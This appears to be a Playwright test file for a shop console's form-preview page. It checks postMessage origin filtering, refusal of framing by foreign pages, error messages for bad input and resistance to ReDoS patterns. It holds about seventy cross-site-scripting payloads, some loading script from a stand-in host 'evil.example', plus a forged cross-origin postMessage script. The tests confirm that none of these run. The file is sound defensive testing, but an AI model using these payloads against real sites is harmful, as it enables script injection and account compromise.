import type { Page } from "@playwright/test";
import type { Console } from "../../pages/console";
import { expect, test } from "../../test";

const described = (tag: string, model: string, label: string, config: object = {}, attributes: object = {}) => ({
  __config__: { label, tag, layout: "colFormItem", span: 24, ...config },
  ...attributes,
  __vModel__: model,
});

const plain = { fields: [described("el-input", "name", "店铺名称", { required: true }, { placeholder: "请输入店铺名称" })] };

/** Posts a message to the current page, from its own origin. */
const post = (page: Page, data: unknown) =>
  page.evaluate((form) => window.postMessage({ type: "refreshFrame", data: form }, window.location.origin), data);

/** Resolves once the page has rendered all that happened so far. */
const drawn = (page: Page) => page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));

async function openPreview(view: Console) {
  await view.open("/preview");
  await expect(view.page.getByText("等待表单配置")).toBeVisible();
}

test("a visitor sees the page wait, then the form that is posted to it, and what a submit would send", async ({ page, view }) => {
  await openPreview(view);
  await expect(page).toHaveTitle(/表单预览 - 掌柜$/);
  await post(
    page,
    JSON.stringify({ fields: [...plain.fields, described("el-rate", "stars", "评分"), described("el-switch", "open", "营业")] }),
  );
  await page.getByRole("button", { name: "提交" }).click();
  await expect(page.getByText("请输入店铺名称")).toBeVisible();
  await expect(page.getByLabel("店铺名称")).toBeFocused();
  await page.getByLabel("店铺名称").fill("山月茶家");
  await page.getByRole("radio").nth(3).click();
  await page.getByRole("switch", { name: "营业" }).check();
  await page.getByRole("button", { name: "提交" }).click();
  await expect(page.locator("pre")).toHaveText(JSON.stringify({ name: "山月茶家", stars: 4, open: true }, undefined, 2));
  await post(page, { fields: [described("el-input", "other", "另一个表单")] });
  await expect(page.getByLabel("另一个表单")).toBeVisible();
  await expect(page.locator("pre")).toHaveCount(0);
  view.expectQuiet();
});

test("a page of the same origin frames it, hears that it listens, and has its form drawn", async ({ page, view }) => {
  await view.open("/404");
  await page.evaluate(
    (form) =>
      new Promise<void>((done) => {
        const iframe = document.createElement("iframe");
        iframe.title = "preview";
        iframe.src = "/preview";
        iframe.style.cssText = "position: fixed; inset: 0; width: 100%; height: 100%";
        addEventListener("message", (message) => {
          if (message.origin !== location.origin || message.data?.type !== "preview.ready") return;
          iframe.contentWindow?.postMessage({ type: "refreshFrame", data: form }, location.origin);
          done();
        });
        document.body.append(iframe);
      }),
    plain,
  );
  await expect(page.frameLocator("iframe").getByLabel("店铺名称")).toBeVisible();
});

test("messages of a foreign origin change nothing, and a foreign page cannot frame it", async ({ page, shop, view }) => {
  const evil = "http://evil.example";
  await page.route(`${evil}/frames`, (route) =>
    route.fulfill({ contentType: "text/html", body: `<iframe src="${shop.url}/preview"></iframe>` }),
  );
  await page.goto(`${evil}/frames`);
  await expect.poll(() => page.frames()[1]?.url()).toMatch(/^chrome-error:/);

  // a foreign frame in the page itself, as if the policy allowed it
  await page.route(`${shop.url}/preview`, async (route) => {
    const answer = await route.fetch();
    const headers = { ...answer.headers() };
    delete headers["content-security-policy"];
    await route.fulfill({ response: answer, headers });
  });
  await page.route(`${evil}/posts`, (route) =>
    route.fulfill({
      contentType: "text/html; charset=utf-8",
      body: `<script>
        for (const data of [${JSON.stringify(plain)}, ${JSON.stringify(JSON.stringify(plain))}])
          for (const target of [parent, top]) target.postMessage({ type: "refreshFrame", data }, "*");
        document.title = "posted";
      </script>`,
    }),
  );
  await openPreview(view);
  await post(page, { fields: [described("el-input", "own", "自己的表单")] });
  await expect(page.getByLabel("自己的表单")).toBeVisible();
  await page.evaluate((src) => {
    const heard: unknown[] = [];
    Reflect.set(window, "heard", heard);
    addEventListener("message", ({ origin }) => heard.push(origin));
    document.body.append(Object.assign(document.createElement("iframe"), { src }));
  }, `${evil}/posts`);
  await expect.poll(() => page.evaluate("heard")).toEqual([evil, evil, evil, evil]);
  await drawn(page);
  await expect(page.getByLabel("自己的表单")).toBeVisible();
  await expect(page.getByLabel("店铺名称")).toHaveCount(0);
});

test("broken JSON, things that are no form, and an unknown layout are told in the page, and the next form is drawn", async ({
  page,
  view,
}) => {
  await openPreview(view);
  await post(page, '{"fields": [');
  await expect(page.getByText("表单内容不是有效的 JSON，请检查后重新发送")).toBeVisible();
  for (const data of [null, 7, [], {}, "null", { fields: "x" }]) {
    await post(page, data);
    await expect(page.getByText("表单内容里没有 fields 列表，请检查后重新发送")).toBeVisible();
  }
  await post(page, {
    fields: [...plain.fields, described("el-input", "a", "格子", { layout: "gridItem" }), described("el-tree", "b", "树")],
  });
  await expect(page.getByRole("note").filter({ hasText: "没有与gridItem匹配的layout" })).toBeVisible();
  await expect(page.getByRole("note").filter({ hasText: "控件“树”的类型 el-tree 无法识别，未显示" })).toBeVisible();
  await page.getByLabel("店铺名称").fill("还能用");
  await page.getByRole("button", { name: "提交" }).click();
  await expect(page.locator("pre")).toContainText("还能用");
});

test("catastrophic patterns freeze nothing, and one that cannot be used keeps nobody from submitting", async ({ page, view }) => {
  await openPreview(view);
  const patterns = [
    "/^(a+)+$/",
    "/^(a|aa)+$/",
    "/(.*a){25}$/",
    "/^([a-zA-Z0-9_.-])+@(([a-zA-Z0-9-])+.)+([a-zA-Z0-9]{2,4})+$/",
    "/^(?=(a+)+$).*$/",
  ];
  await post(page, {
    fields: patterns.map((pattern, at) => described("el-input", `f${at}`, `字段${at}`, { regList: [{ pattern, message: `不匹配${at}` }] })),
  });
  for (const at of patterns.keys()) await page.getByRole("textbox", { name: `字段${at}` }).fill(`${"a".repeat(5_000)}!`);
  await page.getByRole("button", { name: "提交" }).click();
  for (const at of [0, 1, 2, 3]) await expect(page.getByText(`不匹配${at}`)).toBeVisible();
  await expect(page.getByText("不匹配4")).toHaveCount(0);
  await expect(page.getByRole("note").filter({ hasText: "“字段4”的校验规则无法使用，提交时不会检查" })).toBeVisible();
  for (const at of [0, 1, 2]) await page.getByRole("textbox", { name: `字段${at}` }).fill("a".repeat(30));
  await page.getByLabel("字段3").fill("a@b.cn");
  await page.getByRole("button", { name: "提交" }).click();
  await expect(page.locator("pre")).toContainText("a@b.cn");
});

/** Attacks through a label, a placeholder, a tip, an option, a message or an address. */
const payloads = [
  "<script>pwned()</script>",
  "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
  "<scr<script>ipt>pwned()</script>",
  "<script type=module>import('//evil.example/x.js')</script>",
  "<img src=x onerror=pwned()>",
  "<img src=x onerror='pwned()'//",
  '"><img src=x onerror=pwned()>',
  "'><img src=x onerror=pwned()>",
  "<img/src/onerror=pwned()>",
  "<img src=//evil.example/pixel.png>",
  "<image href=1 onerror=pwned()>",
  "<svg onload=pwned()>",
  "<svg/onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<svg><animate onbegin=pwned() attributeName=x dur=1s></svg>",
  "<svg><set attributeName=onmouseover to=pwned()></svg>",
  "<svg><a xlink:href=javascript:pwned()><text>x</text></a></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>parent.pwned()</script>'></iframe></foreignObject></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<math href=javascript:pwned()>x</math>",
  "<iframe src=javascript:pwned()></iframe>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=//evil.example></iframe>",
  "<object data=javascript:pwned()></object>",
  "<embed src=javascript:pwned()>",
  "<a href=javascript:pwned()>x</a>",
  "<a href='jav&#x09;ascript:pwned()'>x</a>",
  "<form action=javascript:pwned()><button>x</button></form>",
  "<button formaction=javascript:pwned()>x</button>",
  "<input autofocus onfocus=pwned()>",
  "<select autofocus onfocus=pwned()></select>",
  "<textarea autofocus onfocus=pwned()></textarea>",
  "<details open ontoggle=pwned()>x</details>",
  "<video src=x onerror=pwned()></video>",
  "<video><source onerror=pwned()></video>",
  "<audio src=x onerror=pwned()></audio>",
  "<body onload=pwned()>",
  "<marquee onstart=pwned()>x</marquee>",
  "<base href=//evil.example/>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<meta http-equiv=refresh content='0;url=//evil.example'>",
  "<style>@import '//evil.example/x.css';</style>",
  "<style>body{display:none}</style>",
  "<div style='background:url(//evil.example/x)'>x</div>",
  "<div style='width:expression(pwned())'>x</div>",
  "<template><script>pwned()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=pwned()>'>",
  "<!--<img src='--><img src=x onerror=pwned()>'>",
  "<![CDATA[<img src=x onerror=pwned()>]]>",
  "<xss onpointerenter=pwned() style='position:fixed;inset:0'>x</xss>",
  "&lt;img src=x onerror=pwned()&gt;",
  "&#60;script&#62;pwned()&#60;/script&#62;",
  "\\u003cscript\\u003epwned()\\u003c/script\\u003e",
  "{{constructor.constructor('pwned()')()}}",
  "${pwned()}",
  "#{pwned()}",
  "<%= pwned() %>",
  "[[${pwned()}]]",
  "{{name}} {{{name}}} $t(app)",
  "javascript:pwned()",
  "JaVaScRiPt:pwned()//",
  "java\tscript:pwned()",
  "data:text/html,<script>opener.pwned()</script>",
  "data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+",
  "vbscript:pwned()",
  "//evil.example/%0apwned()",
  "https://evil.example@127.0.0.1:1/",
  "new Function('pwned()')()",
  "(() => pwned())()",
  "__proto__",
  "constructor",
  "\u202e)(denwp\u202c",
];

test(`${payloads.length} payloads in labels, placeholders, tips, options, messages, addresses, layouts and tags are text, and nothing of them runs`, async ({
  page,
  shop,
  view,
}) => {
  const notified: string[] = [];
  await page.exposeFunction("pwned", () => notified.push("ran"));
  page.on("dialog", (dialog) => {
    notified.push(dialog.message());
    return dialog.dismiss();
  });
  page.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (protocol.startsWith("http") && origin !== shop.url) notified.push(request.url());
  });
  await openPreview(view);
  const inputs = payloads.map((payload, at) =>
    described(
      "el-input",
      `${payload} ${at}`,
      payload,
      {
        required: true,
        tips: true,
        tipsIsLink: at % 2 === 0,
        tipsDesc: payload,
        tipsLink: payload,
        regList: [{ pattern: payload, message: payload }],
      },
      {
        placeholder: payload,
        style: payload,
        onclick: payload,
        ref: payload,
        domProps: { innerHTML: payload },
        __slot__: { prepend: payload, append: payload },
      },
    ),
  );
  const radios = payloads.map((payload, at) =>
    described(
      "el-radio-group",
      `radio${at}`,
      "选项",
      { defaultValue: payload },
      { __slot__: { options: [{ label: payload, value: payload }] } },
    ),
  );
  const gaps = payloads.map((payload, at) =>
    described(at % 2 ? payload : "el-input", `gap${at}`, payload, { layout: at % 2 ? "colFormItem" : payload }),
  );
  await post(page, {
    fields: [...inputs, ...radios, ...gaps],
    formRef: payloads[0],
    size: payloads[1],
    __methods__: { click: payloads[0] },
  });

  await expect(page.locator("[data-field] > [data-label] > :first-child").first()).toHaveText(payloads[0] ?? "");
  const labels = await page.locator("[data-field] > [data-label] > :first-child").allTextContents();
  expect(labels.slice(0, payloads.length)).toEqual(payloads);
  expect(await page.getByRole("radio").count()).toBe(payloads.length);
  expect((await page.locator(".sk-choice").allTextContents()).filter((text) => payloads.includes(text))).toEqual(payloads);
  expect(await page.locator("input[placeholder]").evaluateAll((all) => all.map((each) => each.getAttribute("placeholder")))).toEqual(
    expect.arrayContaining(payloads.map((payload) => payload.replaceAll(/[\r\n]/g, ""))),
  );

  await page.getByRole("button", { name: "提交" }).click();
  await expect(page.locator("small[data-error]").first()).toBeVisible();
  expect((await page.locator("small[data-error]").allTextContents()).slice(0, payloads.length)).toEqual(payloads);

  // hovering and focusing the fields triggers nothing either
  for (const at of [0, 12, 29, 49]) await page.getByPlaceholder(payloads[at] ?? "", { exact: true }).hover();
  await drawn(page);

  expect(
    await page.locator("#root").evaluate((root) => {
      const all = Array.from(root.querySelectorAll("*"));
      return {
        foreign: all.filter((each) =>
          each.matches("script, iframe, object, embed, img, video, audio, link, meta, base, style, template, math"),
        ).length,
        handlers: all.filter((each) => each.getAttributeNames().some((name) => name.startsWith("on"))).length,
        addresses: all.flatMap((each) => {
          const href = each.getAttribute("href");
          return href !== null && !/^https?:\/\//.test(href) ? [href] : [];
        }),
      };
    }),
  ).toEqual({ foreign: 0, handlers: 0, addresses: [] });
  for (const link of await page.getByRole("link").all()) await expect(link).toHaveAttribute("rel", "noopener noreferrer");
  expect(new URL(page.url()).href).toBe(`${shop.url}/preview`);
  expect(await page.evaluate(() => Reflect.get({}, "polluted"))).toBeUndefined();
  expect(notified).toEqual([]);
  expect(view.errors).toEqual([]);
});
